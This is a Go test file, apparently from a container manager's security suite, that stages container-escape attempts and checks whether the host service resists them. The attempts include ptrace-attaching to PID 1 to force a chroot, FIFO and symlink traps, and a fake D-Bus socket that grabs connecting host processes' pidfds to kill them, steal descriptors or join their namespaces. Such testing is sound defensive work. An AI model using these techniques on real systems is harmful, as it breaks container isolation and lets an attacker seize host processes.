// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// firstAttempts take the container's first process in hand, by which the host enters, and the other ends of the host's
// connections.
func firstAttempts() []attempt {
	return []attempt{
		{name: "first-chroot", tries: "have the first process see another root, full of pipes, when the host enters",
			unwalled: true, host: firstChroot},
		{name: "peer-pidfd", tries: "take hold of a program of the host by the connection that it makes", host: peerPidfd,
			fast: true},
	}
}

// firstChroot has the first process change its root to a directory with pipes and links in place of what verbs open
// below it.
func firstChroot(t *testing.T, b *box) error {
	other := &box{name: b.name + "-chroot", wall: b.wall, options: b.options}
	other.create(t)
	other.endsWithin(t, 15*time.Second)
	other.install(t)
	must(t, "start", other.name)
	other.inside(t, `r=/var/lib/root; mkdir -p $r/dev/pts $r/run/dbus $r/etc $r/tmp $r/var; mkfifo $r/dev/pts/ptmx `+
		`$r/run/dbus/system_bus_socket $r/run/log; ln -s /../../../etc $r/var/log; true`)
	r := service(t, time.Minute, "execute", other.name, "--", "/var/lib/"+insideProgram, "do", "first-chroot")
	if r.status != 0 {
		return refused("it is not changed: %s", r.text)
	}
	got := false
	for _, args := range [][]string{
		{"status", other.name}, {"list"}, {"execute", other.name, "--", "true"}, {"upgrade", other.name},
		{"needs-restart", other.name}, {"logs", other.name}, {"reload", other.name}, {"check", other.name},
		{"set-property", "--runtime", other.name, "tmp-size=64M"}, {"stop", other.name},
	} {
		r := service(t, 3*time.Minute, args...)
		t.Logf("%v: status %d in %v", args, r.status, r.took.Round(time.Millisecond))
		if r.timeout || args[0] == "stop" && r.status != 0 || args[0] != "stop" && r.took > 40*time.Second {
			t.Errorf("%v: %+v", args, r)
			got = true
		}
	}
	if got {
		return nil
	}
	return errHeld
}

// chrootFirst traces the first process, which has no more rights than this one, and has it call chroot(2).
func chrootFirst() error {
	runtime.LockOSThread()
	if err := unix.PtraceAttach(1); err != nil {
		return fmt.Errorf("trace the first process: %w", err)
	}
	var status unix.WaitStatus
	if _, err := unix.Wait4(1, &status, unix.WALL, nil); err != nil {
		return err
	}
	defer unix.PtraceDetach(1)
	return chrootTraced(1, "/var/lib/root")
}

// peerPidfd has a server in place of the bus ask the kernel for the process that connects, and do to it what it can.
func peerPidfd(t *testing.T, b *box) error {
	other := &box{name: b.name + "-peer", wall: b.wall, options: b.options}
	other.create(t)
	other.install(t)
	must(t, "start", other.name)
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	serving := exec.CommandContext(ctx, program, "execute", other.name, "--", "/var/lib/"+insideProgram, "do",
		"seize-peers")
	var said strings.Builder
	serving.Stderr = os.Stderr
	from, err := serving.StdoutPipe()
	if err == nil {
		err = serving.Start()
	}
	if err != nil {
		t.Fatal(err)
	}
	lines := bufio.NewReader(from)
	if line, err := lines.ReadString('\n'); err != nil || line != "serves\n" {
		t.Fatalf("it says %q, %v", line, err)
	}
	for range 3 {
		if r := service(t, time.Minute, "status", other.name); r.timeout || r.status > 125 || r.status < 0 {
			t.Logf("status: %+v", r)
			said.WriteString("got: ended\n")
		}
	}
	_, _ = io.Copy(&said, lines)
	_ = serving.Wait()
	t.Log(said.String())
	if strings.Contains(said.String(), "got: ") {
		return nil
	}
	if !strings.Contains(said.String(), "asked") {
		t.Fatal("nobody has connected")
	}
	return errHeld
}

// seizePeers serves for a while in place of the bus.
func seizePeers() error {
	const path, getPidfd = "/run/dbus/system_bus_socket", 77
	_ = os.Remove(path)
	listener, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err == nil {
		err = errors.Join(unix.Bind(listener, &unix.SockaddrUnix{Name: path}), unix.Listen(listener, 9),
			os.Chmod(path, 0o777))
	}
	if err != nil {
		return err
	}
	fmt.Println("serves")
	go func() {
		for {
			fd, _, err := unix.Accept(listener)
			if err != nil {
				return
			}
			fmt.Println("asked")
			peer, err := unix.GetsockoptUcred(fd, unix.SOL_SOCKET, unix.SO_PEERCRED)
			if err == nil && peer.Pid != 0 {
				fmt.Println("got: its number", peer.Pid)
			}
			pidfd, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, getPidfd)
			if err != nil {
				fmt.Println("no descriptor:", err)
				continue
			}
			for what, do := range map[string]func() error{
				"signal": func() error { return unix.PidfdSendSignal(pidfd, unix.SIGKILL, nil, 0) },
				"files":  func() error { _, err := unix.PidfdGetfd(pidfd, 0, 0); return err },
				"join":   func() error { return unix.Setns(pidfd, unix.CLONE_NEWNET) },
				"mounts": func() error { return unix.Setns(pidfd, unix.CLONE_NEWNS) },
				"advise": func() error { return call(unix.SYS_PROCESS_MADVISE, uintptr(pidfd), 0, 0, unix.MADV_COLD, 0) },
				// PIDFD_GET_NET_NAMESPACE
				"spaces": func() error { return call(unix.SYS_IOCTL, uintptr(pidfd), 0xff05, 0) },
				"memory": func() error { return call(unix.SYS_PROCESS_MRELEASE, uintptr(pidfd), 0) },
			} {
				if err := do(); err == nil {
					fmt.Println("got:", what)
				} else {
					fmt.Println(what, err)
				}
			}
			unix.Close(fd)
		}
	}()
	time.Sleep(20 * time.Second)
	return nil
}
